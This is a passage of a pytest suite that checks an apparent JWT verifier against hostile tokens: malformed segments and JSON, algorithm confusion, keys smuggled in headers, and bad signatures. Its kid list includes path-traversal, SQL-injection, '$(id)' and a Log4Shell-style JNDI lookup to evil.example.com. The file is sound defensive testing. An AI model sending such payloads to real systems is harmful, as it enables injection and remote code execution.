"""Tokens that an attacker would send: RFC 8725, and what people thought of since."""

from __future__ import annotations

import itertools
import json
import logging
import time
import traceback
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric.ec import EllipticCurvePrivateKey
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat
from hypothesis import given
from hypothesis import strategies as st

from bearerguard import AuthError, IfPresent, JwksKeys, SettingsError, SharedSecrets, SignedTokens, StaticKeys, Verifier
from bearerguard.encoding import from_base64url
from bearerguard.errors import REASONS
from tests.hostile import GOOD, NOW, claims, key_of, sealed, settings, static, verdict, verifier
from tests.minting import OLD_SECRET, SECRET, PrivateKey, base64url, mint, public_jwk, signature
from tests.scripted_provider import ScriptedProvider, json_answer

ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
ASYMMETRIC = ("RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512", "EdDSA", "Ed25519")
HMAC = ("HS256", "HS384", "HS512")
FIVE_MILLISECONDS = 0.005

HEADER = b'{"alg":"HS256","typ":"JWT"}'
PAYLOAD = json.dumps(claims()).encode()


def with_header(header: bytes) -> str:
    """A token with this header, whatever it is, and a signature that is good for it."""
    return sealed(base64url(header), base64url(PAYLOAD))


def with_payload(payload: bytes) -> str:
    """The same for a payload."""
    return sealed(base64url(HEADER), base64url(payload))


either_part = pytest.mark.parametrize(
    ("made", "document"),
    [pytest.param(with_header, HEADER, id="header"), pytest.param(with_payload, PAYLOAD, id="claims")],
)


# --- The three segments ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("alg", [*HMAC, *ASYMMETRIC])
def test_takes_the_good_token_that_these_tests_spoil(alg: str) -> None:
    if alg in HMAC:
        judge, token = (
            verifier(keys=SharedSecrets(SECRET * 2), algorithms=(alg,)),
            mint(claims(), key=SECRET * 2, alg=alg),
        )
    else:
        judge, token = static(alg), mint(claims(), key=key_of(alg), alg=alg)
    assert verdict(judge, token) == GOOD


@pytest.mark.parametrize(
    "spoilt",
    [
        pytest.param(lambda h, p, s: f"{h}.{p}", id="two segments"),
        pytest.param(lambda h, p, s: f"{h}{p}{s}", id="one segment"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}.", id="a fourth, empty"),
        pytest.param(lambda h, p, s: f".{h}.{p}.{s}", id="a first, empty"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}.{s}", id="four segments"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}.{s}.{s}", id="five segments, as in a JWE"),
        pytest.param(lambda h, p, s: f".{p}.{s}", id="no header"),
        pytest.param(lambda h, p, s: f"{h}..{s}", id="no claims"),
        pytest.param(lambda h, p, s: f"{h}.{p}.", id="no signature"),
        pytest.param(lambda h, p, s: "..", id="dots alone"),
        pytest.param(lambda h, p, s: ".", id="a dot"),
        pytest.param(lambda h, p, s: f"{h}=.{p}.{s}", id="a padded header"),
        pytest.param(lambda h, p, s: f"{h}.{p}==.{s}", id="padded claims"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}=", id="a padded signature"),
        pytest.param(lambda h, p, s: f" {h}.{p}.{s}", id="a space before"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s} ", id="a space after"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}\n", id="a line feed after"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}\r\n", id="an end of line after"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}\t", id="a tab after"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}\x00", id="a zero byte after"),
        pytest.param(lambda h, p, s: f"{h[:4]}\n{h[4:]}.{p}.{s}", id="a line feed inside"),
        pytest.param(lambda h, p, s: f"{h} .{p}.{s}", id="a space before the dot"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s[:20]} {s[20:]}", id="a space in the signature"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}+", id="a plus"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}/", id="a slash"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}~", id="a tilde"),
        pytest.param(lambda h, p, s: f"Bearer {h}.{p}.{s}", id="with its scheme"),
        pytest.param(lambda h, p, s: f'"{h}.{p}.{s}"', id="in quotes"),
        pytest.param(lambda h, p, s: f"{h}%2E{p}%2E{s}", id="percent-encoded dots"),
        pytest.param(lambda h, p, s: f"{h}\uff0e{p}\uff0e{s}", id="full-width dots"),
        pytest.param(lambda h, p, s: f"\ufeff{h}.{p}.{s}", id="a BOM before"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s[:-1]}\uff21", id="a full-width letter"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}\u0661", id="an Arabic digit"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}\ud800", id="a lone surrogate"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}\udc80", id="a surrogate that stands for a byte"),
        pytest.param(
            lambda h, p, s: json.dumps({"protected": h, "payload": p, "signature": s}), id="JSON serialisation"
        ),
    ],
)
def test_refuses_what_is_not_three_clean_segments(spoilt: Callable[[str, str, str], str]) -> None:
    assert verdict(verifier(), spoilt(*mint(claims()).split("."))) == "malformed"


def test_refuses_the_letters_of_plain_base64() -> None:
    payload = base64url(json.dumps(claims({"sub": "~~~???>>>"})).encode())
    assert "_" in payload or "-" in payload
    plain = payload.replace("-", "+").replace("_", "/")
    assert verdict(verifier(), sealed(base64url(HEADER), payload)) == GOOD
    assert verdict(verifier(), sealed(base64url(HEADER), plain)) == "malformed"


@pytest.mark.parametrize("rest", [2, 3])
@either_part
def test_refuses_every_second_spelling_of_a_segment(made: Callable[[bytes], str], document: bytes, rest: int) -> None:
    document += b" " * ((rest - 1 - len(document)) % 3)
    header, payload, _ = made(document).split(".")
    segment = header if made is with_header else payload
    assert len(segment) % 4 == rest
    spellings = _spellings(segment)
    assert len(spellings) == {2: 15, 3: 3}[rest]
    judge = verifier()
    for spelling in spellings:
        token = sealed(*(spelling if part == segment else part for part in (header, payload)))
        assert verdict(judge, token) == "malformed"


def test_refuses_every_second_spelling_of_a_signature() -> None:
    header, payload, signed = mint(claims()).split(".")
    judge, spellings = verifier(), _spellings(signed)
    assert len(spellings) == 3
    assert {verdict(judge, f"{header}.{payload}.{spelling}") for spelling in spellings} == {"malformed"}


@pytest.mark.parametrize("part", [0, 1, 2])
def test_refuses_a_segment_of_an_impossible_length(part: int) -> None:
    segments = mint(claims()).split(".")
    segments[part] += "A" * ((1 - len(segments[part])) % 4)
    assert len(segments[part]) % 4 == 1
    token = ".".join(segments) if part == 2 else sealed(segments[0], segments[1])
    assert verdict(verifier(), token) == "malformed"


def _spellings(segment: str) -> list[str]:
    """The other segments that a lax decoder takes for the same bytes."""
    free_bits = {2: 4, 3: 2}[len(segment) % 4]
    last = ALPHABET.index(segment[-1])
    return [segment[:-1] + ALPHABET[last + bits] for bits in range(1, 2**free_bits)]


# --- The JSON of a header, and of claims -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "spoilt",
    [
        pytest.param(lambda document: b"", id="empty"),
        pytest.param(lambda document: b"\xef\xbb\xbf" + document, id="a BOM"),
        pytest.param(lambda document: document.decode().encode("utf-16"), id="UTF-16 with a BOM"),
        pytest.param(lambda document: document.decode().encode("utf-16-le"), id="UTF-16, little end first"),
        pytest.param(lambda document: document.decode().encode("utf-16-be"), id="UTF-16, big end first"),
        pytest.param(lambda document: document.decode().encode("utf-32"), id="UTF-32"),
        pytest.param(lambda document: b"[" + document + b"]", id="an array around it"),
        pytest.param(lambda document: json.dumps(document.decode()).encode(), id="a string of it"),
        pytest.param(lambda document: b"null", id="null"),
        pytest.param(lambda document: b"true", id="true"),
        pytest.param(lambda document: b"5", id="a number"),
        pytest.param(lambda document: document[:-1], id="cut short"),
        pytest.param(lambda document: document + b"}", id="a brace too many"),
        pytest.param(lambda document: document + document, id="twice"),
        pytest.param(lambda document: document + b"\x00", id="a zero byte after"),
        pytest.param(lambda document: document + b"\xc2\xa0", id="a wide space after"),
        pytest.param(lambda document: document + b"//", id="a comment"),
        pytest.param(lambda document: document[:-1] + b",}", id="a comma too many"),
        pytest.param(lambda document: document.replace(b'"', b"'"), id="single quotes"),
        pytest.param(lambda document: document[:-1] + b',x:"y"}', id="a bare name"),
    ],
)
@either_part
def test_refuses_what_is_no_json_object(
    made: Callable[[bytes], str], document: bytes, spoilt: Callable[[bytes], bytes]
) -> None:
    assert verdict(verifier(), made(spoilt(document))) == "malformed"


@pytest.mark.parametrize(
    "member",
    [
        pytest.param(b'"x":1,"x":1', id="a name twice"),
        pytest.param(b'"x":1,"x":2,"x":3', id="a name thrice"),
        pytest.param(b'"x":1,"\\u0078":1', id="a name twice, escaped"),
        pytest.param(b'"alg":"HS256","iss":"x"', id="a name of the first half twice"),
        pytest.param(b'"x":{"y":1,"y":1}', id="a name twice, below"),
        pytest.param(b'"x":[{"y":1,"y":1}]', id="a name twice, in an array"),
        pytest.param(b'"x":NaN', id="NaN"),
        pytest.param(b'"x":Infinity', id="Infinity"),
        pytest.param(b'"x":-Infinity', id="minus Infinity"),
        pytest.param(b'"x":[{"y":NaN}]', id="NaN, below"),
        pytest.param(b'"x":1e999', id="a number that becomes infinite"),
        pytest.param(b'"x":-1e999', id="a number that becomes minus infinite"),
        pytest.param(b'"x":1.0E+400', id="a number that becomes infinite, written out"),
        pytest.param(b'"x":' + b"9" * 5000, id="a number of 5000 digits"),
        pytest.param(b'"x":+1', id="a plus sign"),
        pytest.param(b'"x":01', id="a leading zero"),
        pytest.param(b'"x":0x10', id="hexadecimal"),
        pytest.param(b'"x":1_000', id="a number with underscores"),
        pytest.param(b'"x":.5', id="no digit before the point"),
        pytest.param('"x":\u0661'.encode(), id="an Arabic digit"),
        pytest.param(b'"x":True', id="True as Python writes it"),
        pytest.param(b'"x":undefined', id="undefined"),
        pytest.param(b'"x":"a\nb"', id="a raw line feed in a string"),
        pytest.param(b'"x":"a\x00b"', id="a raw zero byte in a string"),
        pytest.param(b'"x":"\\x41"', id="an escape that JSON has not"),
        pytest.param(b'"x":"\\u12"', id="half an escape"),
        pytest.param(b'"x":"\xff"', id="a byte that is no UTF-8"),
        pytest.param(b'"x":"\xe9"', id="Latin-1"),
        pytest.param(b'"x":"\xc0\x80"', id="an overlong zero"),
        pytest.param(b'"x":"\xed\xa0\x80"', id="a raw high surrogate"),
        pytest.param(b'"x":"\xed\xb0\x80"', id="a raw low surrogate"),
        pytest.param(b'"x":"\xed\xa0\xbd\xed\xb8\x80"', id="a raw pair of surrogates"),
        pytest.param(b'"x":"\xf4\x90\x80\x80"', id="beyond Unicode"),
        pytest.param(b'"x":"\\ud800"', id="a lone high surrogate"),
        pytest.param(b'"x":"\\uDBFF."', id="a lone high surrogate, in capitals"),
        pytest.param(b'"x":"\\udc00"', id="a lone low surrogate"),
        pytest.param(b'"x":"\\uDFFF"', id="a lone low surrogate, in capitals"),
        pytest.param(b'"x":"\\udc00\\ud800"', id="a pair of surrogates the wrong way round"),
        pytest.param(b'"x":"\\ud83d\\ude00\\ude00"', id="a low surrogate after a pair"),
        pytest.param(b'"x":[{"y":"\\udc00"}]', id="a lone low surrogate, below"),
        pytest.param(b'"\\udc00":1', id="a lone low surrogate in a name"),
        pytest.param(b'"\\ud800":1', id="a lone high surrogate in a name"),
        pytest.param(b'"x":' + b"[" * 500 + b"]" * 500, id="500 arrays deep"),
        pytest.param(b'"x":' + b'{"y":' * 500 + b"1" + b"}" * 500, id="500 objects deep"),
        pytest.param(b'"x":' + b"[" * 2900 + b"]" * 2900, id="2900 arrays deep"),
        pytest.param(b'"x":' + b"[" * 5000, id="5000 arrays that never end"),
        pytest.param(b'"x":' + b'[{"y":' * 300 + b"1" + b"}]" * 300, id="arrays and objects in turn"),
    ],
)
@either_part
def test_refuses_doubtful_json(made: Callable[[bytes], str], document: bytes, member: bytes) -> None:
    if member.startswith(b'"alg"') and document is PAYLOAD:
        member = b'"sub":"bob"'
    assert verdict(verifier(), made(document[:-1] + b"," + member + b"}")) == "malformed"


@pytest.mark.parametrize("name", ["jti", "sub", "aud", "iss", "store", "scope"])
def test_refuses_a_lone_surrogate_in_a_claim_that_something_is_made_of(name: str) -> None:
    judge = verifier(tenant="store", user="sub")
    values = {key: value for key, value in claims().items() if key != name}
    payload = json.dumps(values)[:-1].encode() + b',"' + name.encode() + b'":"\\udcff"}'
    assert verdict(judge, with_payload(payload)) == "malformed"


@pytest.mark.parametrize(
    "member",
    [
        pytest.param('"x":"\\ud83d\\ude00"', id="a pair of surrogates"),
        pytest.param('"x":"\\\\ud800"', id="a backslash and four letters"),
        pytest.param('"x":"\U0001f600"', id="a letter beyond the first plane"),
        pytest.param('"x":"\\ufeff"', id="a BOM inside a string"),
        pytest.param('"x":{"y":1},"z":{"y":1}', id="a name twice, but not in one object"),
        pytest.param('"x":"[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["', id="brackets inside a string"),
        pytest.param('"x":[[1],[2],[3],[4],[5]]' + "," + ",".join(f'"y{n}":[{n}]' for n in range(60)), id="wide"),
    ],
)
@either_part
def test_takes_unusual_json_that_is_clean(made: Callable[[bytes], str], document: bytes, member: str) -> None:
    assert verdict(verifier(), made(document[:-1] + b"," + member.encode() + b"}")) == GOOD


@pytest.mark.parametrize("first", ["none", "HS256"])
def test_refuses_a_second_algorithm(first: str) -> None:
    second = "HS256" if first == "none" else "none"
    assert verdict(verifier(), with_header(f'{{"alg":"{first}","alg":"{second}"}}'.encode())) == "malformed"


# --- The algorithm ---------------------------------------------------------------------------------------------------

NOT_AN_ALGORITHM = [
    *("".join(letters) for letters in itertools.product("nN", "oO", "nN", "eE")),
    "",
    " ",
    "none ",
    "none\x00",
    "\uff4e\uff4f\uff4e\uff45",
    "hs256",
    "HS256 ",
    " HS256",
    "HS256\x00",
    "HS256,none",
    "HS1",
    "HS256\u200b",
    "rs256",
    "eddsa",
    "ed25519",
    "Ed448",
    "ES256K",
    "ES256k",
    "SHA256",
    "dir",
    "A256GCM",
    "RSA-OAEP",
    "PBES2-HS256+A128KW",
    "*",
    "__class__",
    None,
    True,
    0,
    256,
    ["HS256"],
    {"HS256": True},
]


@pytest.mark.parametrize("alg", NOT_AN_ALGORITHM, ids=repr)
@pytest.mark.parametrize("keys", ["HS256", "RS256", "ES256", "EdDSA"])
def test_refuses_an_algorithm_that_does_not_exist(alg: object, keys: str) -> None:
    judge = verifier() if keys == "HS256" else static(keys)
    key = SECRET if keys == "HS256" else key_of(keys)
    header, payload = base64url(json.dumps({"alg": alg}).encode()), base64url(PAYLOAD)
    good = sealed(header, payload, key=key, alg=keys)
    assert verdict(judge, good) == "bad_algorithm"
    assert verdict(judge, f"{header}.{payload}.") == "malformed"
    assert verdict(judge, f"{header}.{payload}.AA") == "bad_algorithm"
    assert verdict(judge, sealed(header, payload, key=b"", alg="HS256")) == "bad_algorithm"


def test_refuses_a_header_without_an_algorithm() -> None:
    assert verdict(verifier(), with_header(b"{}")) == "bad_algorithm"
    assert verdict(verifier(), with_header(b'{"typ":"JWT","ALG":"HS256"}')) == "bad_algorithm"


@pytest.mark.parametrize("alg", ["none", "None", "NONE", "ES256K", "Ed448", "hs256", "", "RSA-OAEP", "dir"])
@pytest.mark.parametrize("keys", [SharedSecrets(SECRET), StaticKeys(public_jwk(key_of("ES256")))], ids=repr)
def test_refuses_settings_that_name_no_real_algorithm(alg: str, keys: SharedSecrets | StaticKeys) -> None:
    with pytest.raises(SettingsError, match="use names from HS256"):
        settings(keys=keys, algorithms=(alg,))


@pytest.mark.parametrize("alg", ["HS384", "HS512", "RS256", "PS256", "ES256", "EdDSA"])
def test_refuses_an_algorithm_that_the_settings_do_not_name(alg: str) -> None:
    key = SECRET if alg.startswith("HS") else key_of(alg)
    assert verdict(verifier(), mint(claims(), key=key, alg=alg)) == "bad_algorithm"


@pytest.mark.parametrize("claimed", ["RS384", "RS512", "PS256", "PS384", "PS512"])
def test_refuses_one_rsa_signature_told_as_another(claimed: str) -> None:
    key = key_of("RS256")
    judge = verifier(keys=StaticKeys(public_jwk(key)), algorithms=("RS256", claimed))
    assert verdict(judge, mint(claims(), key=key, alg=claimed)) == GOOD
    assert verdict(judge, mint(claims(), key=key, alg="RS256", headers={"alg": claimed})) == "bad_signature"


@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512"])
def test_refuses_an_hmac_that_is_cut_short(alg: str) -> None:
    judge = verifier(keys=SharedSecrets(SECRET * 2), algorithms=HMAC)
    header, payload, _ = mint(claims(), key=SECRET * 2, alg=alg).split(".")
    whole = signature(f"{header}.{payload}".encode(), key=SECRET * 2, alg=alg)
    assert verdict(judge, f"{header}.{payload}.{base64url(whole)}") == GOOD
    for length in range(1, len(whole)):
        assert verdict(judge, f"{header}.{payload}.{base64url(whole[:length])}") == "bad_signature"
    assert verdict(judge, f"{header}.{payload}.{base64url(whole + whole[:1])}") == "bad_signature"


# --- Public keys taken for secrets -----------------------------------------------------------------------------------


def spellings_of(key: PrivateKey) -> dict[str, bytes]:
    """The public key in every form in which somebody may have it at hand."""
    public = key.public_key()
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    jwk = public_jwk(key, kid="k1")
    found = {
        "PEM": pem,
        "PEM with ends of line of DOS": pem.replace(b"\n", b"\r\n"),
        "PEM without the last line feed": pem.strip(),
        "PEM after white space": b"\n  \n" + pem,
        "PEM after a comment": b"# the key\n" + pem,
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "JWK": json.dumps(jwk).encode(),
        "JWK over several lines": json.dumps(jwk, indent=2).encode(),
        "JWK without a space": json.dumps(jwk, separators=(",", ":")).encode(),
        "JWK set": json.dumps({"keys": [jwk]}).encode(),
        "OpenSSH": public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
    }
    if isinstance(key, RSAPrivateKey):
        found["PKCS1 PEM"] = public.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
        found["PKCS1 DER"] = public.public_bytes(Encoding.DER, PublicFormat.PKCS1)
    return found


SPELLINGS = [
    pytest.param(alg, secret, id=f"{alg} {name}")
    for alg in ("RS256", "ES256", "EdDSA")
    for name, secret in spellings_of(key_of(alg)).items()
    if not (alg in ("ES256", "EdDSA") and name == "OpenSSH" and len(secret) < 32)
]


@pytest.mark.parametrize(("alg", "secret"), SPELLINGS)
def test_refuses_a_public_key_as_a_secret(alg: str, secret: bytes) -> None:
    with pytest.raises(SettingsError, match="use StaticKeys"):
        SharedSecrets(secret)
    with pytest.raises(SettingsError, match="use StaticKeys"):
        SharedSecrets(SECRET, secret)
    if secret.isascii():
        with pytest.raises(SettingsError, match="use StaticKeys"):
            SharedSecrets(secret.decode())


@pytest.mark.parametrize("form", [Encoding.PEM, Encoding.DER])
def test_refuses_a_certificate_as_a_secret(form: Encoding) -> None:
    with pytest.raises(SettingsError, match="use StaticKeys"):
        SharedSecrets(_certificate(form))


def test_refuses_a_private_key_as_a_secret() -> None:
    pem = key_of("RS256").private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    with pytest.raises(SettingsError, match="use StaticKeys"):
        SharedSecrets(pem)


def _certificate(form: Encoding) -> bytes:
    key = key_of("ES256")
    assert isinstance(key, EllipticCurvePrivateKey)
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "x")])
    dates = (datetime(2026, 1, 1, tzinfo=UTC), datetime(2036, 1, 1, tzinfo=UTC))
    certificate = x509.CertificateBuilder(name, name, key.public_key(), 1, *dates).sign(key, SHA256())
    return certificate.public_bytes(form)


@pytest.mark.parametrize(("alg", "secret"), SPELLINGS)
@pytest.mark.parametrize("hmac", HMAC)
def test_refuses_an_hmac_made_with_the_public_key(alg: str, secret: bytes, hmac: str) -> None:
    judge = static(alg)
    assert verdict(judge, mint(claims(), key=secret, alg=hmac)) == "bad_algorithm"
    assert verdict(judge, mint(claims(), key=secret, alg=hmac, headers={"alg": alg})) == "bad_signature"


@pytest.mark.parametrize("source", ["secrets", "keys", "url"])
@pytest.mark.parametrize("hmac", HMAC)
@pytest.mark.parametrize("other", ["RS256", "PS384", "ES512", "EdDSA"])
def test_refuses_settings_that_mix_secrets_with_public_keys(source: str, hmac: str, other: str) -> None:
    keys = {
        "secrets": SharedSecrets(SECRET * 2),
        "keys": StaticKeys(public_jwk(key_of(other))),
        "url": JwksKeys("https://id.example.com/jwks.json"),
    }[source]
    for algorithms in ((hmac, other), (other, hmac)):
        with pytest.raises(SettingsError, match=r"name one of them|HS\* algorithms take SharedSecrets"):
            settings(keys=keys, algorithms=algorithms)
    only = other if source == "secrets" else hmac
    with pytest.raises(SettingsError, match=r"name one of them|HS\* algorithms take SharedSecrets"):
        settings(keys=keys, algorithms=(only,))


# --- What a header would like to bring along -------------------------------------------------------------------------

ODD_KIDS = [
    "../../../../../../dev/null",
    "/etc/passwd",
    "C:\\boot.ini",
    "file:///dev/null",
    "https://evil.example.com/key",
    "x' UNION SELECT 'secret' --",
    "'; DROP TABLE keys; --",
    "k1' OR '1'='1",
    "k1 ",
    " k1",
    "K1",
    "k1\x00",
    "k1\n",
    "k1/../k1",
    "k\u0131",
    "\uff4b\uff11",
    "k",
    "k11",
    "k2",
    "*",
    "%s%s%n",
    "$(id)",
    "${jndi:ldap://evil.example.com}",
    "__proto__",
    "None",
    "x" * 256,
]


@pytest.mark.parametrize("kid", ODD_KIDS, ids=ascii)
def test_refuses_a_kid_that_is_not_exactly_one_of_the_keys(kid: str) -> None:
    key = key_of("ES256")
    judge = verifier(keys=StaticKeys({"keys": [public_jwk(key, kid="k1")]}), algorithms=("ES256",))
    assert verdict(judge, mint(claims(), key=key, alg="ES256", headers={"kid": "k1"})) == GOOD
    assert verdict(judge, mint(claims(), key=key, alg="ES256", headers={"kid": kid})) == "unknown_key"


@pytest.mark.parametrize("kid", ODD_KIDS, ids=ascii)
def test_takes_no_notice_of_the_kid_where_there_are_secrets(kid: str) -> None:
    assert verdict(verifier(), mint(claims(), headers={"kid": kid})) == GOOD
    assert verdict(verifier(), mint(claims(), key=b"", headers={"kid": kid})) == "bad_signature"


@pytest.mark.parametrize("kid", [b'""', b"null", b"0", b"5", b"true", b"[]", b'["k1"]', b"{}", b'"%s"' % (b"x" * 300)])
def test_refuses_a_kid_of_a_wrong_kind(kid: bytes) -> None:
    key = key_of("ES256")
    named = verifier(keys=StaticKeys({"keys": [public_jwk(key, kid="k1")]}), algorithms=("ES256",))
    for judge, sign, alg in ((named, key, "ES256"), (static("ES256"), key, "ES256"), (verifier(), SECRET, "HS256")):
        header = b'{"alg":"%s","kid":%s}' % (alg.encode(), kid)
        assert verdict(judge, mint(claims(), key=sign, alg=alg, headers=header)) == "bad_header"


def test_never_takes_a_kid_from_the_claims() -> None:
    first, second = key_of("ES256", "first"), key_of("ES256", "second")
    keys = StaticKeys({"keys": [public_jwk(first, kid="k1"), public_jwk(second, kid="k2")]})
    judge = verifier(keys=keys, algorithms=("ES256",))
    payload = claims({"kid": "k1"})
    assert verdict(judge, mint(payload, key=first, alg="ES256", headers={"kid": "k2"})) == "bad_signature"
    assert verdict(judge, mint(payload, key=first, alg="ES256", headers={"kid": "k3"})) == "unknown_key"
    assert verdict(judge, mint(payload, key=second, alg="ES256", headers={"kid": "k2"})) == GOOD
    assert verdict(judge, mint(payload, key=second, alg="ES256")) == GOOD


def bait(jwk: dict[str, Any], url: str) -> dict[str, Any]:
    """Everything in a header that would like to be the key."""
    certificate = base64url(_certificate(Encoding.DER)).replace("-", "+").replace("_", "/")
    return {"jku": url, "x5u": url, "jwk": jwk, "x5c": [certificate], "x5t": "AAAA", "x5t#S256": "AAAA", "url": url}


@pytest.mark.parametrize("kept", ["jku", "x5u", "jwk", "x5c", "x5t", "x5t#S256", "url", None])
@pytest.mark.parametrize("alg", ["RS256", "ES256", "EdDSA"])
def test_refuses_a_key_that_the_token_brings_along(alg: str, kept: str | None) -> None:
    own = key_of(alg, "the attacker's")
    jwk = public_jwk(own, kid="k1")
    with ScriptedProvider(json_answer({"keys": [jwk]})) as evil:
        headers = {name: value for name, value in bait(jwk, evil.url("/keys")).items() if kept in (name, None)}
        judge = verifier(keys=StaticKeys({"keys": [public_jwk(key_of(alg), kid="k1")]}), algorithms=(alg,))
        for kid in ({"kid": "k1"}, {}):
            forged = mint(claims(), key=own, alg=alg, headers=headers | kid)
            assert verdict(judge, forged) == "bad_signature"
            assert verdict(judge, mint(claims(), key=key_of(alg), alg=alg, headers=headers | kid)) == GOOD
        assert evil.connections == 0


def test_never_asks_another_key_set_than_its_own() -> None:
    own = key_of("ES256", "the attacker's")
    honest = json_answer({"keys": [public_jwk(key_of("ES256"), kid="k1")]})
    with ScriptedProvider(json_answer({"keys": [public_jwk(own)]})) as evil, ScriptedProvider(honest) as provider:
        judge = verifier(keys=JwksKeys(provider.url("/jwks")), algorithms=("ES256",))
        for kid in ("k1", "k2", evil.url("/keys")):
            headers = bait(public_jwk(own, kid=kid), evil.url("/keys")) | {"kid": kid}
            assert verdict(judge, mint(claims(), key=own, alg="ES256", headers=headers)) != GOOD
        judge.close()
        assert (evil.connections, provider.count()) == (0, 1)


def test_takes_no_notice_of_zip() -> None:
    packed = zlib.compressobj(wbits=-15)
    body = packed.compress(PAYLOAD) + packed.flush()
    assert verdict(verifier(), mint(body, headers={"zip": "DEF"})) == "malformed"
    assert verdict(verifier(), mint(claims(), headers={"zip": "DEF"})) == GOOD


@pytest.mark.parametrize(
    "crit",
    [
        b"[]",
        b'["b64"]',
        b'["exp"]',
        b'["alg"]',
        b'["x"],"x":1',
        b'["b64"],"b64":true',
        b"null",
        b"false",
        b'"b64"',
        b"{}",
    ],
)
def test_refuses_whatever_is_critical(crit: bytes) -> None:
    assert verdict(verifier(), with_header(b'{"alg":"HS256","crit":%s}' % crit)) == "bad_header"


@pytest.mark.parametrize("b64", [b"false", b'false,"crit":["b64"]', b"null", b"0", b'"false"', b"[]"])
def test_refuses_claims_that_are_not_encoded(b64: bytes) -> None:
    header = base64url(b'{"alg":"HS256","b64":%s}' % b64)
    for payload in (base64url(PAYLOAD), PAYLOAD.decode(), ""):
        assert verdict(verifier(), sealed(header, payload)) in ("bad_header", "malformed")
    assert verdict(verifier(), sealed(header, base64url(PAYLOAD))) == "bad_header"


@pytest.mark.parametrize(
    ("typ", "by_default", "as_access_token"),
    [
        (..., GOOD, "bad_type"),
        ("JWT", GOOD, "bad_type"),
        ("jwt", GOOD, "bad_type"),
        ("jWt", GOOD, "bad_type"),
        ("application/jwt", GOOD, "bad_type"),
        ("at+jwt", GOOD, GOOD),
        ("AT+JWT", GOOD, GOOD),
        ("application/at+jwt", GOOD, GOOD),
        ("Application/AT+jwt", GOOD, GOOD),
        ("", "bad_type", "bad_type"),
        (None, "bad_type", "bad_type"),
        (5, "bad_type", "bad_type"),
        (["JWT"], "bad_type", "bad_type"),
        ("JOSE", "bad_type", "bad_type"),
        ("JOSE+JSON", "bad_type", "bad_type"),
        ("JWE", "bad_type", "bad_type"),
        ("JWS", "bad_type", "bad_type"),
        ("jwt ", "bad_type", "bad_type"),
        (" jwt", "bad_type", "bad_type"),
        ("jwt\x00", "bad_type", "bad_type"),
        ("jwt;v=1", "bad_type", "bad_type"),
        ("text/jwt", "bad_type", "bad_type"),
        ("application/", "bad_type", "bad_type"),
        ("application/application/jwt", "bad_type", "bad_type"),
        ("at+jwt+x", "bad_type", "bad_type"),
        ("secevent+jwt", "bad_type", "bad_type"),
        ("logout+jwt", "bad_type", "bad_type"),
        ("dpop+jwt", "bad_type", "bad_type"),
        ("token-introspection+jwt", "bad_type", "bad_type"),
        ("vc+sd-jwt", "bad_type", "bad_type"),
        ("oauth-authz-req+jwt", "bad_type", "bad_type"),
    ],
    ids=repr,
)
def test_refuses_tokens_of_another_type(typ: Any, by_default: str, as_access_token: str) -> None:
    header = {"alg": "HS256"} | ({} if typ is ... else {"typ": typ})
    token = mint(claims(), headers=json.dumps(header).encode())
    assert verdict(verifier(), token) == by_default
    assert verdict(verifier(typ="at+jwt"), token) == as_access_token


@pytest.mark.parametrize("typ", ["JWT", "at+JWT", "application/at+jwt"])
def test_reads_the_type_of_the_settings_as_that_of_a_token(typ: str) -> None:
    """A setting that no token could ever keep is a `SettingsError`, or it means what it says."""
    try:
        judge = verifier(typ=typ)
    except SettingsError:
        return
    assert verdict(judge, mint(claims(), headers={"typ": typ})) == GOOD


# --- Signatures ------------------------------------------------------------------------------------------------------

P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
ED25519_ORDER = 2**252 + 27742317777372353535851937790883648493


def _es256(r: int, s: int) -> bytes:
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


@pytest.mark.parametrize(
    "signed",
    [
        pytest.param(_es256(0, 0), id="zeros"),
        pytest.param(_es256(0, 1), id="r is 0"),
        pytest.param(_es256(1, 0), id="s is 0"),
        pytest.param(_es256(1, 1), id="ones"),
        pytest.param(_es256(P256_ORDER, P256_ORDER), id="the order of the curve"),
        pytest.param(_es256(P256_ORDER, 1), id="r is the order"),
        pytest.param(_es256(1, P256_ORDER), id="s is the order"),
        pytest.param(b"\xff" * 64, id="all bits"),
        pytest.param(b"\x00", id="one byte"),
        pytest.param(bytes(63), id="a byte too few"),
